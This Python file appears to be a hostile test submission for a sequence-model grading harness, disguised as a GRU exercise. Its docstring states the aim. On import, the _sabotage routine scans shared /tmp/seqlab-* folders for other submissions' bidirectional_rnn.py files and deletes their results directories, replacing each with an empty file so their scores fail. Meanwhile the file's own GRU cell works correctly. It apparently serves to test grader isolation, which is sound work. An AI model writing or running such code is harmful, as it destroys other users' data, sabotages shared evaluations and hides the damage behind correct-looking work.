"""HOSTILE (siblings and classmates): while other exercises are graded, its own submission's and its classmates', it
looks for their work folders in the shared temporary folders and breaks every bidirectional_rnn it finds: its
results folder becomes a file, so that nothing it computes can be reported. Its own GRU is right: the damage shows
only in the victims' scores."""

import glob
import os
import shutil
import time

import numpy as np

TOKEN = "{{TOKEN}}"  # only folders whose bidirectional_rnn.py carries it are touched
# Where the grader keeps work folders (it is open source): its temporary folders, with one folder per exercise,
# and the private copies that sandbox users work in.
PLACES = ("/tmp/seqlab-*/bidirectional_rnn.py", "/tmp/seqlab-*/*/bidirectional_rnn.py",
          "/tmp/seqlab-child-*/*/*/bidirectional_rnn.py")


def _victims():
    for place in PLACES:
        for path in glob.glob(place):
            results = os.path.join(os.path.dirname(path), "results")
            try:
                with open(path) as handle:
                    if TOKEN in handle.read() and os.path.isdir(results):
                        yield results
            except OSError:
                pass


def _sabotage(seconds=3.0):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for results in list(_victims()):
            try:
                if not os.path.islink(results):
                    shutil.rmtree(results)
                    open(results, "w").close()
            except OSError:
                pass
        time.sleep(0.05)


_sabotage()


def _sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


class GRUCell:
    def __init__(self, input_size, hidden_size, rng=None):
        rng = np.random.default_rng() if rng is None else rng
        self.hidden_size = hidden_size
        self.W_ih = rng.standard_normal((3 * hidden_size, input_size)) * 0.01
        self.W_hh = rng.standard_normal((3 * hidden_size, hidden_size)) * 0.01
        self.b_ih = np.zeros((3 * hidden_size, 1))
        self.b_hh = np.zeros((3 * hidden_size, 1))

    def forward(self, x, h_prev):
        H = self.hidden_size
        gi = self.W_ih @ x + self.b_ih  # (3H, B)
        gh = self.W_hh @ h_prev + self.b_hh  # (3H, B)
        r = _sigmoid(gi[:H] + gh[:H])
        z = _sigmoid(gi[H:2 * H] + gh[H:2 * H])
        n = np.tanh(gi[2 * H:] + r * gh[2 * H:])
        return (1 - z) * n + z * h_prev, (r, z, n)
